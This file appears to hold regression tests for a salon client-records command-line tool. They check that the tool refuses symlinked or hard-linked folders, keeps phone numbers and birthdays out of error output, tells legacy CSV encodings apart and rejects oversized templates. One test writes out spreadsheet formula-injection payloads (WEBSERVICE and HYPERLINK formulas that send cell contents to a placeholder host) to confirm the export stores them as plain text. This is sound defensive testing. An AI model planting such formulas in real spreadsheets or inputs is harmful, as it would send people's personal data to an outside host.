"""Regression tests for what a hostile tester found: links written through, formulas in a
workbook, personal data on stderr, garbled legacy CSVs, a giant script, a fault hook that
wrote on its own. (How an import grows with its rows is measured by bench/run.py.)"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from conftest import Salon


@pytest.fixture
def one(salon: Salon) -> Salon:
    salon.ok("client", "add", "王芳", "--phone", "13800000001")
    return salon


@pytest.mark.parametrize(("folder", "command"), [
    ("journal/calls", ("call", "log", "c0001", "--outcome", "reached")),
    ("journal", ("visit", "add", "c0001", "--service", "补水")),
    ("clients", ("client", "add", "李娜", "--phone", "13800000002"))])
def test_a_linked_folder_inside_the_salon_is_never_written_through(
        one: Salon, tmp_path: Path, folder: str, command: tuple[str, ...]) -> None:
    elsewhere = tmp_path / "elsewhere"
    real = one.root / folder
    real.rename(elsewhere)
    real.symlink_to(elsewhere, target_is_directory=True)
    before = {p: p.read_bytes() for p in elsewhere.rglob("*") if p.is_file()}
    result = one(*command)
    assert result.code == 74 and "is a symbolic link" in result.err, result.err
    assert {p: p.read_bytes() for p in elsewhere.rglob("*") if p.is_file()} == before


def test_a_linked_cache_is_neither_read_nor_written(one: Salon, tmp_path: Path) -> None:
    outside = tmp_path / "cache-elsewhere"
    outside.mkdir()
    (one.root / ".cache").mkdir(exist_ok=True)
    (one.root / ".cache").rename(tmp_path / "old-cache")
    (one.root / ".cache").symlink_to(outside, target_is_directory=True)
    assert one("due").code == 0  # the sheet, from the files
    assert list(outside.iterdir()) == []


def test_a_hard_linked_client_file_is_refused(one: Salon, tmp_path: Path) -> None:
    twin = tmp_path / "twin.yaml"
    os.link(one.root / "clients/0000.yaml", twin)
    edited = one("client", "edit", "c0001", "--set", "note=x")
    assert edited.code == 74 and "another hard link" in edited.err
    assert "note" not in twin.read_text(encoding="utf-8")


def test_a_workbook_export_never_holds_a_formula(one: Salon, tmp_path: Path) -> None:
    one.ok("client", "add", '=WEBSERVICE("http://x/?"&B2)', "--phone", "13800000002")
    one.ok("client", "edit", "c0001", "--set", 'note==HYPERLINK("http://x/?"&C2)')
    one.ok("export", "--format", "xlsx", "--out", str(tmp_path / "out"))
    with zipfile.ZipFile(tmp_path / "out/salon.xlsx") as book:
        sheets = [book.read(name).decode() for name in book.namelist() if "worksheets/" in name]
    assert sheets and not any("<f>" in sheet for sheet in sheets)  # no formula cell anywhere
    assert any("WEBSERVICE" in sheet for sheet in sheets)  # the text is there, as text


def test_stderr_shows_no_whole_phone_nor_a_birthday(one: Salon) -> None:
    for args in (("client", "add", "李娜", "--phone", "1380013 abc 5678"),
                 ("client", "add", "李娜", "--phone", "13800000002", "--birthday", "1991-02-30"),
                 ("client", "edit", "c0001", "--set", "email=wangfang.secret@")):
        result = one(*args)
        assert result.code == 2
        assert "1380013" not in result.err and "1991" not in result.err \
            and "wangfang.secret" not in result.err, result.err
    one.write("clients/0000.yaml", one.read("clients/0000.yaml").replace(
        "'13800000001'", "13800000001"))
    checked = one("check")
    assert checked.code == 65 and "13800000001" not in checked.err


@pytest.mark.parametrize(("encoding", "header", "name"), [
    ("big5", "姓名,電話", "陳美玲"), ("shift_jis", "氏名,電話", "山田花子"),
    ("gb18030", "姓名,手机", "王丽")])
def test_legacy_csvs_are_told_apart(salon: Salon, tmp_path: Path, encoding: str, header: str,
                                    name: str) -> None:
    path = tmp_path / "clients.csv"
    path.write_bytes(f"{header}\n{name},13900000001\n".encode(encoding))
    salon.ok("import", "clients", str(path))
    assert [c["name"] for c in json.loads(salon.ok("client", "list", "--format", "json"))] == [name]


def test_a_csv_that_reads_two_ways_is_refused(salon: Salon, tmp_path: Path) -> None:
    path = tmp_path / "clients.csv"
    path.write_bytes(b"name,phone\n" + "陳美玲".encode("big5") + b",13900000001\n")
    refused = salon("import", "clients", str(path))
    assert refused.code == 2 and "cannot tell for certain which encoding" in refused.err
    assert json.loads(salon.ok("client", "list", "--format", "json")) == []


def test_a_giant_script_is_refused_by_check_and_by_the_sheet(one: Salon) -> None:
    one.write("templates/zh-CN/first-visit.txt", "您好。" * 10_000)
    checked = one("check")
    assert checked.code == 65 and "first-visit.txt:1:1: the script is 90,000 bytes" in checked.err
    due = one("due")
    assert due.code == 65 and "first-visit.txt" in due.err  # refused, never composed


def test_the_fault_hook_writes_nothing_of_its_own(one: Salon) -> None:
    env = {**os.environ, "SALONCTL_FAULT_PAUSE": "0"}
    for fault in ("mid-append:pause", "mid-append:kill:no-such-file"):
        done = subprocess.run(
            [str(Path(sys.executable).with_name("salonctl")), "--data", str(one.root), "--today",
             "2026-11-24", "visit", "add", "c0001", "--service", "补水", "--again"],
            capture_output=True, text=True, check=False, env={**env, "SALONCTL_FAULT": fault})
        assert done.returncode == 0, done.stderr
    lines = one.read("journal/visits/2026-11.yaml").splitlines()
    assert len(lines) == 2 and all(line.endswith("}") for line in lines)
